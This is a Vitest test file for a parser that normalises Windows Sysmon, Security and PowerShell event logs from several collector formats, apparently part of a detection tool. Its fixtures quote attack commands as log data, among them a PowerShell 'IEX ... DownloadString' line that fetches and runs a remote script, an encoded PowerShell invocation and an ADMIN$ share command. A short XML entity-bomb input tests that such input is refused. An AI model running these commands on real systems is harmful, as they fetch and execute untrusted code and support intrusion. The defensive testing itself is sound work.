import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../domain/event';
import { NormalizedEvent as NormalizedEventSchema } from '../../domain/event';
import { normalizeRecord, parseClockSample, parseRawRecord } from './normalize-record';
import { readRecords } from './read-records';
import { FIXTURES, readFile, SHARED_DATA } from './test-support';
import type { ClockSample, RawRecord } from './types';

function event(r: ReturnType<typeof normalizeRecord>): NormalizedEvent {
  if (r.kind !== 'event') throw new Error(`expected an event, got ${JSON.stringify(r)}`);
  // Every produced event must satisfy the domain schema (the hot path itself never runs zod).
  return NormalizedEventSchema.parse(r.event);
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

describe('flat NXLog/Logstash shape', async () => {
  const s = await readFile(path.join(FIXTURES, 'sysmon-flat.jsonl'));
  const byRecord = new Map(s.outcomes.map((o) => [o.recordNo, o.result]));

  it('takes the endpoint host and Sysmon UtcTime, not the collector', () => {
    const e = event(byRecord.get(1)!);
    expect(e).toMatchObject({
      source: 'sysmon',
      channel: SYSMON,
      eventId: 1,
      host: 'WORKSTATION5.theshire.local',
      recordId: 1001,
    });
    expect(e.time).toBe(Date.UTC(2020, 8, 17, 21, 46, 5, 449));
    expect(e.provider).toBe('Microsoft-Windows-Sysmon');
  });

  it('normalises GUIDs and keeps EventData names, dropping collector fields', () => {
    const e = event(byRecord.get(1)!);
    expect(e.fields.ProcessGuid).toBe('B34BC01C-D91D-5F63-4106-000000000400');
    expect(e.fields.ParentProcessGuid).toBe('B34BC01C-D913-5F63-3F06-000000000400');
    expect(e.fields.LogonGuid).toBe('B34BC01C-D2E1-5F63-5F9B-0B0000000000');
    expect(e.fields.CommandLine).toBe('C:\\Users\\pgustavo\\Desktop\\MoveExcel4.exe  172.18.39.6');
    for (const k of [
      'host',
      '@timestamp',
      'Message',
      'Keywords',
      'EventTime',
      'tags',
      'Hostname',
      'EventID',
      'Channel',
    ]) {
      expect(e.fields, k).not.toHaveProperty(k);
    }
  });

  it('accepts a record without ProcessId (6 of the shared files have none)', () => {
    const e = event(byRecord.get(2)!);
    expect(e.fields).not.toHaveProperty('ProcessId');
    expect(e.fields.ProcessGuid).toBe('39E4A257-004E-5F8D-4304-000000000700');
    // UtcTime wins over the local TimeCreated.
    expect(e.time).toBe(Date.UTC(2020, 9, 18, 11, 56, 14, 283));
  });

  it('normalises string/int types and Initiated variants', () => {
    const e = event(byRecord.get(3)!);
    expect(e.eventId).toBe(3);
    expect(e.fields).toMatchObject({
      ProcessId: '4584',
      SourcePort: '61628',
      DestinationPort: '443',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      DestinationIsIpv6: 'false',
    });
  });

  it('shortens GrantedAccess and gives ...GUID fields a ...Guid name', () => {
    const e = event(byRecord.get(4)!);
    expect(e.fields.GrantedAccess).toBe('0x1010');
    expect(e.fields.SourceProcessGUID).toBe('D273D0F0-E866-5F64-1100-000000000800');
    expect(e.fields.SourceProcessGuid).toBe('D273D0F0-E866-5F64-1100-000000000800');
    expect(e.fields.TargetProcessGuid).toBe('D273D0F0-E875-5F64-5400-000000000800');
    // NXLog's own EventType (INFO) is not Sysmon data.
    expect(e.fields).not.toHaveProperty('EventType');
  });

  it("keeps Sysmon's real EventType of registry events", () => {
    const e = event(byRecord.get(5)!);
    expect(e.fields.EventType).toBe('SetValue');
    expect(e.fields).not.toHaveProperty('EventTypeOrignal');
  });

  it('normalises the lower-case security channel and derives Sysmon fields for 4688', () => {
    const e = event(byRecord.get(6)!);
    expect(e).toMatchObject({
      source: 'security',
      channel: 'Security',
      eventId: 4688,
      host: 'WORKSTATION6.theshire.local',
    });
    expect(e.time).toBe(Date.parse('2020-09-20T16:16:39.625Z'));
    expect(e.fields).toMatchObject({
      NewProcessId: '0x1660',
      ProcessId: '5728',
      ParentProcessId: '1184',
      Image: 'C:\\Windows\\System32\\whoami.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'whoami /all',
      User: 'THESHIRE\\WORKSTATION6$',
      SubjectUserName: 'WORKSTATION6$',
    });
  });

  it('keeps Security 4624 fields', () => {
    const e = event(byRecord.get(7)!);
    expect(e).toMatchObject({ source: 'security', eventId: 4624 });
    expect(e.fields).toMatchObject({
      LogonType: '3',
      TargetUserName: 'pgustavo',
      LogonGuid: '00000000-0000-0000-0000-000000000000',
    });
  });

  it('skips unsupported events by channel:eventId', () => {
    expect(byRecord.get(8)).toEqual({ kind: 'skipped', type: `${SYSMON}:9` });
    expect(byRecord.get(9)).toEqual({
      kind: 'skipped',
      type: 'Microsoft-Windows-PowerShell/Operational:4104',
    });
    expect(s.rejected).toEqual([]);
  });

  it('keeps unsupported Windows events on request, with source windows for other channels', async () => {
    const all = await readFile(path.join(FIXTURES, 'sysmon-flat.jsonl'), { keepUnsupported: true });
    expect(all.events).toHaveLength(9);
    expect(all.events[7]).toMatchObject({ source: 'sysmon', eventId: 9 });
    expect(all.events[8]).toMatchObject({
      source: 'windows',
      channel: 'Microsoft-Windows-PowerShell/Operational',
      eventId: 4104,
    });
    expect(all.events[8]!.fields.ScriptBlockText).toBe('Write-Host hi');
    // No UtcTime: the collector time is the fallback.
    expect(all.events[8]!.time).toBe(Date.parse('2020-09-20T16:16:42.000Z'));
  });

  // NXLog's im_msvistalog shipped EventData with XML's escapes left in (covenant_dcom_*, rdp_interactive_*).
  const nxlog = (fields: Record<string, unknown>, module: string | null = 'im_msvistalog') => ({
    EventID: 13,
    Channel: SYSMON,
    SourceName: 'Microsoft-Windows-Sysmon',
    Hostname: 'WORKSTATION6.theshire.local',
    UtcTime: '2020-09-17 21:46:05.449',
    ...(module === null ? {} : { SourceModuleType: module }),
    EventType: 'SetValue',
    Message: 'Registry value set:\r\nDetails: <SmsMessageFilter Action="Drop"/>',
    ...fields,
  });

  it("unescapes the XML escapes NXLog's im_msvistalog leaves in EventData values", () => {
    const e = event(
      normalizeRecord(
        nxlog({
          TargetObject: 'HKLM\\System\\CurrentControlSet\\Enum\\UMB\\2&amp;2c22bcc9&amp;0&amp;Session2Mouse0',
          Details: '&lt;SmsMessageFilter Action=&quot;Drop&quot; Flags=&apos;1&apos;/&gt;',
          Image: 'C:\\Tools\\caf&#233; &#x263A;.exe',
          // What is not a reference stays: &amp;lt; is the text "&lt;", &#0; is no character.
          RuleName: 'a &amp;lt; b &amp;#0; &#0;',
        }),
      ),
    );
    expect(e.fields).toMatchObject({
      TargetObject: 'HKLM\\System\\CurrentControlSet\\Enum\\UMB\\2&2c22bcc9&0&Session2Mouse0',
      Details: `<SmsMessageFilter Action="Drop" Flags='1'/>`,
      Image: 'C:\\Tools\\caf\u00e9 \u263a.exe',
      RuleName: 'a &lt; b &#0; &#0;',
    });
    const pipe = event(
      normalizeRecord(nxlog({ EventID: 17, EventType: 'CreatePipe', PipeName: '&lt;Anonymous Pipe&gt;' })),
    );
    expect(pipe.fields.PipeName).toBe('<Anonymous Pipe>');
  });

  it('leaves the values of a record that holds bare markup, and of other collectors, as shipped', () => {
    // A bare `<` or `&` in any field: this record was not escaped, so `&amp;` is what the event said.
    const bare = event(normalizeRecord(nxlog({ PipeName: '<Anonymous Pipe>', Details: 'x &amp; y' })));
    expect(bare.fields).toMatchObject({ PipeName: '<Anonymous Pipe>', Details: 'x &amp; y' });
    const amp = event(normalizeRecord(nxlog({ TargetObject: 'HKLM\\A&B', Details: '&lt;x&gt;' })));
    expect(amp.fields.Details).toBe('&lt;x&gt;');
    for (const module of [null, 'im_file']) {
      const other = event(normalizeRecord(nxlog({ Details: '&lt;x&gt; &amp;' }, module)));
      expect(other.fields.Details).toBe('&lt;x&gt; &amp;');
    }
  });
});

describe('winlogbeat 6 shape', async () => {
  const s = await readFile(path.join(FIXTURES, 'winlogbeat6.jsonl'));

  it('reads event_data and computer_name, never beat.hostname', () => {
    expect(s.events).toHaveLength(2);
    const [p, n] = s.events as [NormalizedEvent, NormalizedEvent];
    expect(p).toMatchObject({ source: 'sysmon', eventId: 1, host: 'HR001.shire.com', recordId: 2234831 });
    expect(p.fields.ProcessGuid).toBe('03BA39F5-6CF6-5CE0-0000-0010348C0E02');
    expect(p.time).toBe(Date.UTC(2019, 4, 18, 20, 37, 10, 356));
    expect(n).toMatchObject({ eventId: 3, host: 'HFDC01.shire.com' });
    expect(n.fields.Initiated).toBe('true');
    expect(s.skipped.get('Microsoft-Windows-PowerShell/Operational:4103')).toBe(1);
  });

  it('reads winlogbeat 7 (winlog{}) too', () => {
    const e = event(
      normalizeRecord({
        '@timestamp': '2021-01-01T00:00:01.000Z',
        host: { name: 'collector' },
        winlog: {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          event_id: '11',
          computer_name: 'WS1.corp',
          record_id: 42,
          provider_name: 'Microsoft-Windows-Sysmon',
          event_data: {
            UtcTime: '2021-01-01 00:00:00.500',
            ProcessGuid: '{a-b}',
            Image: 'x.exe',
            TargetFilename: 'C:\\t.txt',
          },
        },
      }),
    );
    expect(e).toMatchObject({
      eventId: 11,
      host: 'WS1.corp',
      recordId: 42,
      time: Date.UTC(2021, 0, 1, 0, 0, 0, 500),
    });
    expect(e.fields.TargetFilename).toBe('C:\\t.txt');
  });
});

describe('EVTX JSON shape (python-evtx and evtx_dump)', async () => {
  const s = await readFile(path.join(FIXTURES, 'evtx-json.jsonl'), { keepUnsupported: true });

  it('reads System and EventData, null values as empty strings', () => {
    const e = s.events[0]!;
    expect(e).toMatchObject({
      source: 'sysmon',
      eventId: 3,
      host: 'IEWIN7',
      recordId: 9825,
      provider: 'Microsoft-Windows-Sysmon',
    });
    expect(e.fields).toMatchObject({
      RuleName: '',
      DestinationHostname: '',
      Initiated: 'false',
      ProcessGuid: '365ABB72-2584-5CC9-0000-0010EA030000',
    });
    expect(e.time).toBe(Date.UTC(2019, 3, 30, 20, 32, 49, 659));
  });

  it('reads EventID with Qualifiers and converts the 4688 PIDs', () => {
    const e = s.events[1]!;
    expect(e).toMatchObject({
      source: 'security',
      eventId: 4688,
      time: Date.UTC(2019, 3, 30, 20, 33, 0, 100),
    });
    expect(e.fields).toMatchObject({
      NewProcessId: '0xf00',
      ProcessId: '3840',
      ParentProcessId: '836',
      User: 'IEWIN7\\IEUser',
    });
  });

  it('flattens UserData leaves, names channel-less ETW events after the provider, joins unnamed Data', () => {
    expect(s.events[2]).toMatchObject({ eventId: 1102, channel: 'Security' });
    expect(s.events[2]!.fields).toMatchObject({
      SubjectUserName: 'Administrator',
      SubjectLogonId: '0x7b186',
    });
    expect(s.events[3]).toMatchObject({ source: 'windows', channel: 'Microsoft-Windows-RPC', eventId: 6 });
    expect(s.events[4]!.fields.Data).toBe(
      'Available\nNone\nNewEngineState=Available\n\tHostApplication=powershell -enc AAAA',
    );
  });

  it('reads pretty-printed concatenated evtx_dump output with int fields and brace-less GUIDs', async () => {
    // evtx_dump -o json writes pretty-printed objects one after another (not one JSON document).
    const d = await readFile(path.join(FIXTURES, 'evtx-dump.concat'));
    expect(d.rejected).toEqual([]);
    expect(d.events.map((e) => e.eventId)).toEqual([1, 10]);
    expect(d.events[0]!.fields).toMatchObject({
      ProcessGuid: '0197231E-9BE6-6934-5301-000000000B00',
      ProcessId: '3412',
      TerminalSessionId: '1',
      ParentProcessId: '1092',
    });
    expect(d.events[1]!.fields).toMatchObject({
      SourceProcessGuid: '0197231E-9BE6-6934-5301-000000000B00',
      GrantedAccess: '0x1410',
    });
    const a = await readFile(path.join(FIXTURES, 'evtx-dump-array.json'));
    expect(a.events).toEqual(d.events);
    expect(a.outcomes.map((o) => o.recordNo)).toEqual([1, 2]);
  });
});

describe('Windows event XML', async () => {
  it('reads an <Events> export (XML 1.1 declaration, entities, CDATA)', async () => {
    const s = await readFile(path.join(FIXTURES, 'events.xml'), { keepUnsupported: true });
    expect(s.rejected).toEqual([]);
    expect(s.events.map((e) => e.eventId)).toEqual([1, 10, 4104]);
    const [p, a, ps] = s.events as [NormalizedEvent, NormalizedEvent, NormalizedEvent];
    expect(p.fields.CommandLine).toBe('cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1');
    expect(p.fields.ProcessGuid).toBe('365ABB72-B0F3-5CC8-0000-00105F321D00');
    expect(p.fields.RuleName).toBe('');
    expect(p).toMatchObject({ host: 'IEWIN7', recordId: 9826, time: Date.UTC(2019, 3, 30, 20, 32, 51, 168) });
    expect(a.fields).toMatchObject({
      GrantedAccess: '0x1fffff',
      TargetProcessGuid: '365ABB72-0886-5C8F-0000-001030560000',
    });
    expect(ps).toMatchObject({ source: 'windows', channel: 'Microsoft-Windows-PowerShell/Operational' });
    expect(ps.fields.ScriptBlockText).toBe("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')");
  });

  it('reads a bare sequence of <Event> elements (WEF / wevtutil)', async () => {
    const s = await readFile(path.join(FIXTURES, 'events-bare.xml'));
    expect(s.events).toHaveLength(1);
    expect(s.events[0]).toMatchObject({ source: 'security', eventId: 4688, host: 'DC01.corp.local' });
    expect(s.events[0]!.fields).toMatchObject({
      ProcessId: '5728',
      ParentProcessId: '1184',
      User: 'CORP\\alice',
      Image: 'C:\\Windows\\System32\\net.exe',
    });
    expect(s.skipped.get('System:7045')).toBe(1);
  });

  it('parses one <Event> string given directly', () => {
    const xml =
      '<Event><System><EventID>5</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>H</Computer></System>' +
      '<EventData><Data Name="UtcTime">2020-01-01 00:00:00.000</Data><Data Name="ProcessGuid">{aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee}</Data></EventData></Event>';
    const e = event(parseRawRecord({ recordNo: 1, format: 'xml', text: xml }));
    expect(e).toMatchObject({ eventId: 5, host: 'H', time: Date.UTC(2020, 0, 1) });
    expect(e.fields.ProcessGuid).toBe('AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE');
  });
});

describe('rejections', () => {
  const base = { Channel: SYSMON, Hostname: 'H', UtcTime: '2020-01-01 00:00:00.000' };
  it.each([
    [{ ...base, EventID: 'one' }, 'invalid EventID'],
    [{ ...base, EventID: 1.5 }, 'invalid EventID'],
    [{ ...base, EventID: [1] }, 'invalid EventID'],
    [{ ...base }, 'missing EventID'],
    [{ ...base, EventID: 1, Hostname: '' }, 'missing host'],
    [{ EventID: 1, Channel: SYSMON, host: 'collector', UtcTime: base.UtcTime }, 'missing host'],
    [{ ...base, EventID: 1, UtcTime: 'soon' }, 'invalid time'],
    [{ EventID: 4688, Channel: 'Security', Hostname: 'H' }, 'missing time'],
    // A numeric collector time past the Date range was accepted as the event time (found by fuzz.test.ts).
    [{ EventID: 4688, Channel: 'Security', Hostname: 'H', TimeCreated: 1e300 }, 'invalid time'],
    [{ EventID: 4688, Channel: 'Security', Hostname: 'H', '@timestamp': -1e300 }, 'invalid time'],
    [{ EventID: 1, Hostname: 'H', UtcTime: base.UtcTime }, 'missing Channel'],
    [{ Event: 'x' }, 'invalid record'],
    [{ Event: { EventData: {} } }, 'invalid record'],
    [{ hello: 'world' }, 'unrecognised record'],
  ])('%j -> %s', (record, category) => {
    const r = normalizeRecord(record);
    expect(r.kind).toBe('rejected');
    if (r.kind === 'rejected') expect(r.reason.split(':')[0]).toBe(category);
  });

  it('rejects a channel or host name too long to be real, so it never becomes a counting key', () => {
    const base = {
      EventID: 4104,
      UtcTime: '2020-10-18 19:50:22.123',
      Hostname: 'WS1',
      Channel: 'Windows PowerShell',
    };
    const longChannel = normalizeRecord({ ...base, Channel: 'x'.repeat(300) }, { keepUnsupported: true });
    expect(longChannel).toEqual({ kind: 'rejected', reason: 'invalid Channel: longer than 255 characters' });
    const longHost = normalizeRecord({ ...base, Hostname: 'h'.repeat(300) });
    expect(longHost).toEqual({ kind: 'rejected', reason: 'invalid host: longer than 255 characters' });
    expect(normalizeRecord(base)).toEqual({ kind: 'skipped', type: 'Windows PowerShell:4104' });
  });

  it('rejects non-objects and bad JSON with a reason', () => {
    expect(normalizeRecord([1])).toMatchObject({ kind: 'rejected' });
    expect(normalizeRecord('x')).toMatchObject({ kind: 'rejected' });
    expect(normalizeRecord(null)).toMatchObject({ kind: 'rejected' });
    const r = parseRawRecord({ recordNo: 1, format: 'jsonl', text: '{"EventID": 1, "Hostname": ' });
    expect(r.kind === 'rejected' && r.reason.startsWith('invalid JSON:')).toBe(true);
    const x = parseRawRecord({ recordNo: 1, format: 'xml', text: '<Event><System>' });
    expect(x.kind === 'rejected' && x.reason.startsWith('invalid XML')).toBe(true);
  });

  it('keeps XML error reasons short when saxes quotes a huge name (found by fuzz.test.ts)', () => {
    const name = 'A'.repeat(100_000);
    const text = `<Event><System><Computer name="x" ${name}="1" ${name}="2">H</Computer></System></Event>`;
    const r = parseRawRecord({ recordNo: 1, format: 'xml', text });
    expect(r).toMatchObject({
      kind: 'rejected',
      reason: expect.stringMatching(/^invalid XML: duplicate attribute: A+\.\.\.$/),
    });
    expect(r.kind === 'rejected' && r.reason.length).toBeLessThan(200);
  });

  it('does not expand entities of an XML event given directly', () => {
    const bomb =
      '<!DOCTYPE e [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Event><System><EventID>&b;</EventID></System></Event>';
    const r = parseRawRecord({ recordNo: 1, format: 'xml', text: bomb });
    expect(r.kind === 'rejected' && r.reason.startsWith('refused XML')).toBe(true);
  });
});

describe("the record's own time stamp (clock), next to the event", () => {
  // The issue #4 pair: a shipper that wrote TimeCreated 19 h behind and labelled it UTC.
  const sysmon1 = {
    Channel: SYSMON,
    Hostname: 'IT01.pandalab.com',
    EventID: 1,
    TimeCreated: '2023-08-27T03:04:14.958Z',
    '@timestamp': '2023-08-27T03:04:14.958Z',
    UtcTime: '2023-08-27 22:04:14.955',
    ProcessGuid: '{716d09e4-c85e-64eb-3503-000000000600}',
    ProcessId: '1180',
    Image: 'C:\\Windows\\System32\\wermgr.exe',
  };
  const security4688 = {
    Channel: 'Security',
    Hostname: 'IT01.pandalab.com',
    EventID: 4688,
    TimeCreated: '2023-08-27T03:04:14.955Z',
    NewProcessId: '0x49c',
    NewProcessName: 'C:\\Windows\\System32\\wermgr.exe',
    ProcessId: '0x1464',
  };

  it('Sysmon: time from UtcTime, the time stamp beside it', () => {
    const r = normalizeRecord(sysmon1);
    expect(event(r).time).toBe(Date.parse('2023-08-27T22:04:14.955Z'));
    expect(r).toMatchObject({ clock: { record: Date.parse('2023-08-27T03:04:14.958Z'), from: 'UtcTime' } });
  });

  it('Security: time from the time stamp, unchanged by the parser', () => {
    const r = normalizeRecord(security4688);
    const e = event(r);
    expect(e.time).toBe(Date.parse('2023-08-27T03:04:14.955Z'));
    expect(e).not.toHaveProperty('timeCorrection');
    expect(e.fields.ProcessId).toBe('1180');
    expect(r).toMatchObject({ clock: { record: e.time, from: 'record' } });
  });

  it('no clock when a Sysmon record has no readable time stamp (UtcTime is enough)', () => {
    const { TimeCreated: _t, '@timestamp': _ts, ...bare } = sysmon1;
    expect(normalizeRecord(bare)).not.toHaveProperty('clock');
    expect(normalizeRecord({ ...bare, TimeCreated: 'yesterday' })).not.toHaveProperty('clock');
    expect(event(normalizeRecord({ ...bare, TimeCreated: 'yesterday' })).time).toBe(
      Date.parse('2023-08-27T22:04:14.955Z'),
    );
  });

  it('EVTX JSON and XML give the System/TimeCreated time stamp', () => {
    const system = {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
      EventID: 1,
      Channel: SYSMON,
      Computer: 'WS1',
    };
    const j = normalizeRecord({
      Event: {
        System: { ...system, TimeCreated: { '#attributes': { SystemTime: '2019-04-30 20:32:51.168589' } } },
        EventData: {
          UtcTime: '2019-04-30 20:32:51.100',
          ProcessGuid: '{365ABB72-2FA3-5CC8-0000-0010D2E41100}',
        },
      },
    });
    expect(j).toMatchObject({ clock: { record: Date.UTC(2019, 3, 30, 20, 32, 51, 168), from: 'UtcTime' } });
    const x = parseRawRecord({
      recordNo: 1,
      format: 'xml',
      text:
        '<Event><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4688</EventID>' +
        '<TimeCreated SystemTime="2019-04-30T20:32:51.5Z"/><Channel>Security</Channel><Computer>WS1</Computer>' +
        '</System><EventData><Data Name="NewProcessId">0x10</Data></EventData></Event>',
    });
    expect(x).toMatchObject({ clock: { record: Date.UTC(2019, 3, 30, 20, 32, 51, 500), from: 'record' } });
  });

  it('osquery and generic events have none', async () => {
    const s = await readFile(path.join(FIXTURES, 'osquery.jsonl'));
    const g = await readFile(path.join(FIXTURES, 'generic.jsonl'));
    const results = [...s.outcomes, ...g.outcomes].map((o) => o.result).filter((r) => r.kind === 'event');
    expect(results.length).toBeGreaterThan(0);
    for (const r of results) expect(r).not.toHaveProperty('clock');
  });
});

describe('parseClockSample: the sample of parseRawRecord, without the event where possible', () => {
  /** What the parse stage takes from parseRawRecord's result (ClockSamples.observe). */
  function sampleOfParse(raw: RawRecord): ClockSample | undefined {
    const r = parseRawRecord(raw, { keepUnsupported: true });
    if (r.kind !== 'event' || r.clock?.from !== 'UtcTime') return undefined;
    return { host: r.event.host, record: r.clock.record, utc: r.event.time };
  }

  function expectSame(raw: RawRecord): void {
    expect(parseClockSample(raw, { keepUnsupported: true }), raw.text.slice(0, 300)).toEqual(
      sampleOfParse(raw),
    );
  }

  it('agrees on every record of the fixtures and of a shared Sysmon file', async () => {
    const files = [
      ...['sysmon-flat.jsonl', 'winlogbeat6.jsonl', 'evtx-json.jsonl', 'events.xml', 'evtx-dump.concat'].map(
        (f) => path.join(FIXTURES, f),
      ),
      path.join(SHARED_DATA, 'sysmon-json', 'cmd_lsass_memory_dumpert_syscalls.jsonl'),
    ];
    let samples = 0;
    for (const file of files) {
      for await (const item of readRecords(file)) {
        if (!('text' in item)) continue;
        expectSame(item);
        if (sampleOfParse(item) !== undefined) samples++;
      }
    }
    expect(samples).toBeGreaterThan(100);
  });

  it('agrees on flat records whose envelope, UtcTime or time stamp is odd', () => {
    const base: Record<string, unknown> = {
      Hostname: 'WS1.corp.local',
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      SourceName: 'Microsoft-Windows-Sysmon',
      TimeCreated: '2020-10-18 07:56:14.300',
      UtcTime: '2020-10-18 11:56:14.283',
      ProcessGuid: '{39e4a257-004e-5f8d-4304-000000000700}',
    };
    const variants: Array<Record<string, unknown>> = [
      {},
      { UtcTime: undefined },
      { UtcTime: null },
      { UtcTime: 1603022174283 },
      { UtcTime: ['2020-10-18 11:56:14.283'] },
      { UtcTime: { '#text': '2020-10-18 11:56:14.283' } },
      { UtcTime: '2020-10-18T11:56:14.283Z' },
      { UtcTime: 'yesterday' },
      { UtcTime: '' },
      { TimeCreated: undefined },
      { TimeCreated: undefined, '@timestamp': '2020-10-18T07:56:14.300Z' },
      { TimeCreated: null, '@timestamp': '2020-10-18T07:56:14.300Z' },
      { TimeCreated: 1603007774300 },
      { TimeCreated: 1e300 },
      { TimeCreated: { SystemTime: '2020-10-18T07:56:14.300Z' } },
      { TimeCreated: 'garbage' },
      { TimeCreated: true },
      { EventID: '1' },
      { EventID: 99 },
      { EventID: 'x' },
      { EventID: 4688, Channel: 'Security' },
      { Channel: 'microsoft-windows-sysmon/operational' },
      { Channel: undefined },
      { Channel: undefined, SourceName: 'Microsoft-Windows-Sysmon' },
      { Channel: 'Application' },
      { Hostname: undefined },
      { Hostname: undefined, Computer: 'WS2' },
      { Hostname: undefined, computer_name: 'WS3' },
      { Hostname: '   ' },
      { Hostname: 'x'.repeat(300) },
      { Hostname: 42 },
    ];
    for (const v of variants) {
      const record = { ...base, ...v };
      expectSame({ recordNo: 1, format: 'jsonl', text: JSON.stringify(record) });
    }
    // UtcTime spelled twice (the last wins, in both), deep nesting, broken JSON, not an object.
    for (const text of [
      JSON.stringify(base).replace('"UtcTime"', '"UtcTime":"bad","UtcTime"'),
      JSON.stringify(base).replace(/}$/, ',"UtcTime":"2020-10-18 11:00:00.000"}'),
      `{"x":${'['.repeat(70)}${']'.repeat(70)},${JSON.stringify(base).slice(1)}`,
      JSON.stringify(base).slice(0, -5),
      `[${JSON.stringify(base)}]`,
      'null',
    ]) {
      expectSame({ recordNo: 1, format: 'jsonl', text });
    }
  });
});

describe('the process that wrote a PowerShell event (System/Execution/@ProcessID), in every shape', () => {
  const PS = 'Microsoft-Windows-PowerShell/Operational';
  const evtxJson = (channel: string, pid: unknown) => ({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell' } },
        EventID: 4104,
        TimeCreated: { '#attributes': { SystemTime: '2020-06-30T14:23:58.394424Z' } },
        Execution: { '#attributes': { ProcessID: pid, ThreadID: '5532' } },
        Channel: channel,
        Computer: 'MSEDGEWIN10',
      },
      EventData: { ScriptBlockText: 'Get-Process' },
    },
  });

  // PowerShell's events are outside the graph model: the parse stage keeps them for Sigma.
  const keep = { keepUnsupported: true };
  const norm = (r: unknown) => normalizeRecord(r, keep);

  it('reads it from flat NXLog, EVTX JSON (string or int), XML and winlogbeat 6 and 7', () => {
    const flat = {
      EventID: '4103',
      Channel: PS,
      SourceName: 'Microsoft-Windows-PowerShell',
      Hostname: 'WORKSTATION5.theshire.local',
      '@timestamp': '2020-09-04T07:29:47.609Z',
      ExecutionProcessID: '1376',
      Payload: 'CommandInvocation(Start-Sleep): "Start-Sleep"',
    };
    const xml = `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>
      <Provider Name="Microsoft-Windows-PowerShell"/><EventID>4104</EventID>
      <TimeCreated SystemTime="2020-06-30T14:23:58.394Z"/><Execution ProcessID="7008" ThreadID="5532"/>
      <Channel>${PS}</Channel><Computer>MSEDGEWIN10</Computer></System>
      <EventData><Data Name="ScriptBlockText">Get-Process</Data></EventData></Event>`;
    const beat = { '@timestamp': '2020-06-30T14:23:58.394Z', event_data: { ScriptBlockText: 'x' } };
    const got = [
      event(norm(flat)),
      event(norm(evtxJson(PS, '7008'))),
      event(norm(evtxJson(PS, 7008))),
      event(parseRawRecord({ recordNo: 1, format: 'xml', text: xml }, keep)),
      event(norm({ ...beat, event_id: 4104, log_name: PS, computer_name: 'PC1', process_id: 42 })),
      event(
        norm({
          ...beat,
          winlog: { event_id: 4104, channel: PS, computer_name: 'PC1', process: { pid: 43 }, event_data: {} },
        }),
      ),
    ];
    expect(got.map((e) => e.executionPid)).toEqual([1376, 7008, 7008, 7008, 42, 43]);
    expect(got[0]!.fields).not.toHaveProperty('ExecutionProcessID');
  });

  it("keeps it for PowerShell's logs only, and not when it is 0 or not a number", () => {
    // Sysmon's and the Security log's writer is the service itself, not the subject of the event.
    for (const channel of ['Microsoft-Windows-Sysmon/Operational', 'Security', 'System']) {
      const r = norm(evtxJson(channel, '2004'));
      if (r.kind === 'event') expect(r.event, channel).not.toHaveProperty('executionPid');
    }
    for (const pid of ['0', 0, '-1', '12ab', '', null, 1.5, '99999999999'])
      expect(event(norm(evtxJson(PS, pid))), String(pid)).not.toHaveProperty('executionPid');
    expect(event(norm(evtxJson('Windows PowerShell', ' 812 '))).executionPid).toBe(812);
  });
});
